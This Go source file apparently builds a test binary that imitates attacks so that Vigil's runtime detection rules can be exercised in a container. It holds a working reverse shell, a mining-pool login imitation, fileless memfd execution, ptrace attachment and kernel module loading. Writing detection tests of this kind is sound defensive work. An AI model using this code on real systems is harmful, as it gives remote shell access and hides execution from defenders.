//go:build linux

// Command attacker performs, inside a test container, the system calls of
// the attacks Vigil's runtime rules detect. It is a multi-call binary:
// what it does depends on the name it is run under (argv[0]), so that the
// process names the rules look at are the attackers' names.
//
//	xmrig ADDR              connect to a "mining pool" at ADDR and send a line
//	nc ADDR PROG ARGS...    reverse shell: connect to ADDR, dup3 the socket
//	                        onto 0, 1 and 2, exec PROG ARGS
//	ttyrun PROG ARGS...     run PROG with a new pseudo-terminal as its
//	                        controlling terminal and stdio
//	memfdexec PATH ARGS...  copy PATH into a memfd and execveat it
//	                        (AT_EMPTY_PATH) with ARGS as argv
//	tracer                  start `sleep 5`, PTRACE_ATTACH to it, detach
//	modload PATH            finit_module(PATH): fails (EPERM or ENOSYS)
//
// Build it statically: CGO_ENABLED=0 go build.
package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	name := filepath.Base(os.Args[0])
	args := os.Args[1:]
	var err error
	switch name {
	case "xmrig":
		err = mine(args)
	case "nc":
		err = reverseShell(args)
	case "ttyrun":
		err = ttyRun(args)
	case "memfdexec":
		err = memfdExec(args)
	case "tracer":
		err = trace()
	case "modload":
		err = modLoad(args)
	default:
		err = fmt.Errorf("unknown personality %q", name)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", name, err)
		os.Exit(1)
	}
}

func need(args []string, n int, usage string) error {
	if len(args) < n {
		return fmt.Errorf("usage: %s", usage)
	}
	return nil
}

func mine(args []string) error {
	if err := need(args, 1, "xmrig ADDR"); err != nil {
		return err
	}
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return fmt.Errorf("connect %s: %w", args[0], err)
	}
	defer c.Close()
	_, err = io.WriteString(c, `{"method":"login","params":{"login":"wallet"}}`+"\n")
	return err
}

func reverseShell(args []string) error {
	if err := need(args, 2, "nc ADDR PROG [ARGS...]"); err != nil {
		return err
	}
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return fmt.Errorf("connect %s: %w", args[0], err)
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return fmt.Errorf("socket file: %w", err)
	}
	for fd := 0; fd <= 2; fd++ {
		if err := unix.Dup3(int(f.Fd()), fd, 0); err != nil {
			return fmt.Errorf("dup3 socket to %d: %w", fd, err)
		}
	}
	return unix.Exec(args[1], args[1:], os.Environ())
}

func ttyRun(args []string) error {
	if err := need(args, 1, "ttyrun PROG [ARGS...]"); err != nil {
		return err
	}
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return fmt.Errorf("open /dev/ptmx: %w", err)
	}
	defer ptmx.Close()
	n, err := unix.IoctlGetInt(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		return fmt.Errorf("TIOCGPTN: %w", err)
	}
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		return fmt.Errorf("TIOCSPTLCK: %w", err)
	}
	pts, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return fmt.Errorf("open pts %d: %w", n, err)
	}
	defer pts.Close()
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = pts, pts, pts
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 0}
	if err := cmd.Start(); err != nil {
		return fmt.Errorf("start %s: %w", args[0], err)
	}
	go func() { _, _ = io.Copy(io.Discard, ptmx) }()
	return cmd.Wait()
}

func memfdExec(args []string) error {
	if err := need(args, 2, "memfdexec PATH ARGV0 [ARGS...]"); err != nil {
		return err
	}
	data, err := os.ReadFile(args[0])
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("payload", 0)
	if err != nil {
		return fmt.Errorf("memfd_create: %w", err)
	}
	if _, err := unix.Write(fd, data); err != nil {
		return fmt.Errorf("write memfd: %w", err)
	}
	argv, err := syscall.SlicePtrFromStrings(args[1:])
	if err != nil {
		return err
	}
	envv, err := syscall.SlicePtrFromStrings(os.Environ())
	if err != nil {
		return err
	}
	empty, err := unix.BytePtrFromString("")
	if err != nil {
		return err
	}
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])), unix.AT_EMPTY_PATH, 0)
	return fmt.Errorf("execveat memfd: %w", errno)
}

func trace() error {
	sleep := exec.Command("/bin/sleep", "5")
	if err := sleep.Start(); err != nil {
		return err
	}
	defer func() { _ = sleep.Process.Kill(); _ = sleep.Wait() }()
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.PtraceAttach(sleep.Process.Pid); err != nil {
		return fmt.Errorf("PTRACE_ATTACH %d: %w", sleep.Process.Pid, err)
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(sleep.Process.Pid, &ws, 0, nil); err != nil {
		return fmt.Errorf("wait %d: %w", sleep.Process.Pid, err)
	}
	return unix.PtraceDetach(sleep.Process.Pid)
}

func modLoad(args []string) error {
	if err := need(args, 1, "modload PATH"); err != nil {
		return err
	}
	f, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer f.Close()
	err = unix.FinitModule(int(f.Fd()), "", 0)
	fmt.Printf("finit_module: %v\n", err)
	return nil
}
